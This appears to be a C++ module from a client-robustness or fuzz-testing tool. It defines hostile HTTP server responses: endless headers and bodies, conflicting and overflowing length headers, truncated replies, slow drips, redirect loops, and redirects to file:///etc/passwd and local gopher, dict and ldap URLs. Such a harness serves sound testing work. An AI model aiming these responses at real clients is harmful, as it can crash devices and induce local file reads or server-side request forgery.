#include "Courses.h"

namespace kova::attack {
namespace {

using engine::Connection;
using Script = engine::RawServer::Script;
using Breach = std::function<void(const std::string&)>;

constexpr char kOk[] = "HTTP/1.1 200 OK\r\n";
constexpr char kChunked[] = "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n";
// Size of an endless stream: more than a camera may keep, too little to harm the machine.
constexpr std::size_t kEndless = 512UL * 1024 * 1024;
constexpr std::size_t kBlock = 64UL * 1024;
constexpr int kDripMs = 10;

std::string repeated(const std::string& part, std::size_t size) {
  std::string text;
  while (text.size() < size) {
    text += part;
  }
  return text;
}

/// Reads a request, answers `begin` and then repeats `part` endlessly.
Script flood(std::string begin, const std::string& part) {
  return [begin = std::move(begin), block = repeated(part, kBlock)](Connection& connection) {
    if (!connection.readHead()) {
      return;
    }
    connection.send(begin);
    for (std::size_t sent = 0; sent < kEndless; sent += block.size()) {
      connection.send(block);
    }
    connection.awaitClose();
  };
}

/// Reads a request, or only its head, answers and closes.
Script answer(std::string text, bool whole = true) {
  return [text = std::move(text), whole](Connection& connection) {
    if (whole ? connection.readRequest() : connection.readHead()) {
      connection.send(text);
    }
  };
}

std::string line(std::size_t length) {
  return "X: " + std::string(length, 'x') + "\r\n";
}

Script endlessHeaders(Random& random, const Identities&, Breach) {
  return flood(kOk, line(1 + random.below(2000)));
}
Script oneEndlessHeader(Random&, const Identities&, Breach) {
  return flood(std::string(kOk) + "X: ", "x");
}
Script endlessInformation(Random& random, const Identities&, Breach) {
  return flood("", random.oneIn(2) ? "HTTP/1.1 100 Continue\r\n\r\n"
                                   : "HTTP/1.1 103 Early Hints\r\nLink: x\r\n\r\n");
}
Script endlessTrailers(Random& random, const Identities&, Breach) {
  return flood(std::string(kChunked) + "1\r\nx\r\n0\r\n", line(1 + random.below(2000)));
}
Script endlessChunkExtension(Random&, const Identities&, Breach) {
  return flood(std::string(kChunked) + "1;", "x");
}
Script endlessBody(Random& random, const Identities&, Breach) {
  return random.oneIn(2) ? flood(std::string(kOk) + "\r\n", "x") : flood(kChunked, "1\r\nx\r\n");
}

Script wrongLength(Random& random, const Identities&, Breach) {
  static const std::vector<std::string> heads = {
      "Content-Length: -1\r\n\r\n",
      "Content-Length: x\r\n\r\n",
      "Content-Length: 4\r\nContent-Length: 7\r\n\r\n",
      "Content-Length: 99999999999999999999999999\r\n\r\n",
      "Content-Length: 3\r\n\r\n",
      "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n",
      "Transfer-Encoding: chunked\r\n\r\n-1\r\n",
      "Transfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFFFFFF\r\n",
      "Transfer-Encoding: chunked\r\n\r\n7FFFFFFFFFFFFFFF\r\n",
      "Transfer-Encoding: gzip, chunked, chunked\r\n\r\n4\r\n",
      "Content-Range: bytes 5-1/3\r\n\r\n",
  };
  return answer(kOk + random.pick(heads) + "body\r\n");
}
Script hugeLength(Random&, const Identities&, Breach) {
  return engine::stalling(std::string(kOk) + "Content-Length: 9223372036854775807\r\n\r\nbody");
}
Script cutBody(Random& random, const Identities&, Breach) {
  return answer(std::string(kOk) + "Content-Length: 1000\r\n\r\n" +
                std::string(random.below(1000), 'x'));
}
Script cutHead(Random& random, const Identities&, Breach) {
  const std::string whole = std::string(kOk) + "Content-Length: 4\r\n\r\n";
  return answer(whole.substr(0, 1 + random.below(whole.size() - 1)));
}
Script silentClose(Random& random, const Identities&, Breach) {
  return answer("", random.oneIn(2));
}
Script reset(Random& random, const Identities&, Breach) {
  return [early = random.oneIn(2)](Connection& connection) {
    if (early || connection.readHead()) {
      connection.resetOnClose();
    }
  };
}
Script silence(Random&, const Identities&, Breach) {
  return engine::stalling();
}
Script slowDrip(Random& random, const Identities&, Breach) {
  std::string text = random.oneIn(2) ? kOk + line(5000) : std::string(kChunked) + "fff\r\n";
  text.append(5000, 'x');
  return [text](Connection& connection) {
    if (connection.readRequest()) {
      connection.trickle(text, kDripMs);
    }
  };
}
Script answerUnread(Random& random, const Identities&, Breach) {
  return answer(random.oneIn(2) ? engine::okResponse("body") : "HTTP/1.1 413 No\r\n\r\n", false);
}
Script keptAliveClose(Random&, const Identities&, Breach) {
  return answer(std::string(kOk) + "Connection: keep-alive\r\nContent-Length: 4\r\n\r\nbody");
}

Script redirectLoop(Random& random, const Identities&, Breach) {
  static const std::vector<std::string> status = {"301", "302", "303", "307", "308"};
  return [head = "HTTP/1.1 " + random.pick(status) +
                 " Elsewhere\r\nLocation: /again"](Connection& connection) {
    for (unsigned count = 0; connection.readRequest(); ++count) {
      connection.send(head + std::to_string(count) + "\r\nContent-Length: 0\r\n\r\n");
    }
  };
}
Script redirectToAnotherProtocol(Random& random, const Identities&, Breach) {
  static const std::vector<std::string> targets = {"file:///etc/passwd",     "ftp://127.0.0.1:1/x",
                                                   "gopher://127.0.0.1:1/x", "dict://127.0.0.1:1",
                                                   "tftp://127.0.0.1:1/x",   "ldap://127.0.0.1:1/"};
  return answer("HTTP/1.1 302 Elsewhere\r\nContent-Length: 0\r\nLocation: " + random.pick(targets) +
                "\r\n\r\n");
}

Script garbage(Random& random, const Identities&, Breach) {
  return answer(random.bytes(1 + random.below(100'000)), random.oneIn(2));
}
Script damagedAnswer(Random& random, const Identities&, Breach) {
  return answer(random.mutated(std::string(kChunked) + "4;a=b\r\nbody\r\n0\r\nX: y\r\n\r\n"));
}
Script oddStatus(Random& random, const Identities&, Breach) {
  static const std::vector<std::string> lines = {
      "HTTP/0.9 200 OK", "HTTP/9.9 200 OK",   "HTTP/1.1 999 No", "HTTP/1.1 1 No",
      "HTTP/2 200",      "HTTP/1.1 204 None", "HTTP/1.1 304 No", "HTTP/1.1 101 Switching"};
  return answer(random.pick(lines) + "\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n" +
                "Alt-Svc: h3=\":1\"\r\nContent-Length: 4\r\n\r\nbody");
}

}  // namespace

const std::vector<Course>& httpCourses() {
  static const std::vector<Course> all = {
      {"endless headers", false, true, endlessHeaders},
      {"one endless header", false, true, oneEndlessHeader},
      {"endless 1xx", false, true, endlessInformation},
      {"endless trailers", false, true, endlessTrailers},
      {"endless chunk extension", false, true, endlessChunkExtension},
      {"endless body", false, true, endlessBody},
      {"wrong length", false, false, wrongLength},
      {"huge length", false, true, hugeLength},
      {"cut body", false, true, cutBody},
      {"cut head", false, false, cutHead},
      {"close without answer", false, true, silentClose},
      {"reset", false, true, reset},
      {"silence", false, true, silence},
      {"slow drip", false, true, slowDrip},
      {"answer without reading", false, false, answerUnread},
      {"kept-alive close", false, false, keptAliveClose},
      {"redirect loop", false, true, redirectLoop},
      {"redirect to another protocol", false, true, redirectToAnotherProtocol},
      {"garbage", false, false, garbage},
      {"damaged answer", false, false, damagedAnswer},
      {"odd status", false, false, oddStatus},
  };
  return all;
}

}  // namespace kova::attack
